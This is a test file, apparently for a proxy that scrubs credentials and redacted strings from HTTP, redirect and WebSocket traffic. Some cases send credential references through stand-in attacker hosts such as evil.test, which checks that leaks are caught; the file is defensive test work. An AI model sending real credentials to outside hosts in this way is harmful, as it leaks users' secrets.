// Credentials that come back through another host than they were sent to, and words that may not leave.

// name: {token} read through {host} {more}
// expected: scrubbed
// judge: notEchoed("{token}")
// yolo: {open}
// each: token | host | more | open
//   OTHER_TOKEN   | httpbin.test |                     | no
//   OFF_TOKEN     | httpbin.test |                     | no
//   STRICT_TOKEN  | httpbin.test |                     | no
//   HTTPBIN_BODY  | httpbin.test |                     | no
//   CERTS_TOKEN   | httpbin.test |                     | no
//   OTHER_TOKEN   | httpbin.test | place=header        | no
//   OFF_TOKEN     | httpbin.test | enc=zstd            | no
//   HTTPBIN_HARD  | a.wild.test  | enc=br&frame=chunk1 | no
//   HTTPBIN_TOKEN | evil.test    |                     | yes
//   HTTPBIN_HARD  | evil.test    | enc=gzip            | yes
//   OFF_TOKEN     | evil.test    | place=link          | yes
//   OTHER_TOKEN   | h2.evil.test |                     | yes
//   OTHER_TOKEN   | h2.evil.test | frame=chunk1        | yes
await show(fetch("https://{host}/x/echo?t=TRIAL&what=known:{token}&{more}"));

// name: a run narrowed to another API reads a foreign credential
// expected: scrubbed
// judge: notEchoed("HTTPBIN_TOKEN")
// apis: other
await show(fetch("https://other.test/x/echo?t=TRIAL&what=known:HTTPBIN_TOKEN"));

// name: plain http answer with a foreign credential
// expected: scrubbed
// judge: notEchoed("OTHER_TOKEN")
await show(fetch("http://plain.test/x/echo?t=TRIAL&what=known:OTHER_TOKEN"));

// name: reversed (cannot be caught)
// expected: comes through: not promised
// judge: documented
{
  const t = await (await fetch("https://httpbin.test/x/echo?t=TRIAL&form=reverse", auth("HTTPBIN_TOKEN"))).text();
  out({ status: 200, text: "" + t.length });
}

// name: redirect chain that carries the credential in Location
// expected: scrubbed at each hop
// judge: scrubbed("HTTPBIN_TOKEN", false)
{
  const r = await fetch("https://httpbin.test/x/echo?t=TRIAL&place=location&status=302", auth("HTTPBIN_TOKEN"));
  out({ status: r.status, text: r.url + await r.text() });
}

// name: redacted string in a request
// expected: never leaves
// judge: unredacted
await show(
  fetch("https://httpbin.test/anything/redact-me-please?t=TRIAL&a=redact-me-please", {
    method: "POST",
    headers: { "X-Note": "a redact-me-please b", "Content-Type": "text/plain" },
    body: "hello redact-me-please end",
  }),
);

// name: redacted string in a chunked body, cut
// expected: never leaves
// judge: unredacted
{
  const body = new ReadableStream({
    async start(c) {
      for (const ch of "xx redact-me-please yy") {
        c.enqueue(new TextEncoder().encode(ch));
        await new Promise((d) => setTimeout(d, 2));
      }
      c.close();
    },
  });
  await show(
    fetch("https://httpbin.test/x/sink?t=TRIAL", { method: "POST", headers: { "Content-Type": "text/plain" }, body }),
  );
}

// name: redacted string as a host of a wildcard API
// expected: refused, never asked for
// judge: refused("redacted_host")
await show(fetch("https://redact-me-please.wild.test/x/ok?t=TRIAL"));

// name: redacted string in a host under YOLO
// expected: refused, never asked for
// judge: refused("redacted_host")
// yolo: yes
await show(fetch("https://a.redact-me-please.evil.test/x/ok?t=TRIAL"));

// name: redacted string in a WebSocket message
// expected: never leaves
// judge: unredacted
{
  const s = new WebSocket("wss://httpbin.test/x/ws?t=TRIAL");
  const got = [];
  await new Promise<void>((d) => {
    s.onopen = () => s.send("say redact-me-please now");
    s.onmessage = (m) => {
      got.push(m.data);
      if (got.length === 2) s.close();
    };
    s.onclose = () => d();
    s.onerror = () => d();
    setTimeout(() => {
      s.close();
      d();
    }, 2500);
  });
  out({ status: 101, text: got.join("|").includes("redact-me-please") ? "came back" : got.join("|") });
}
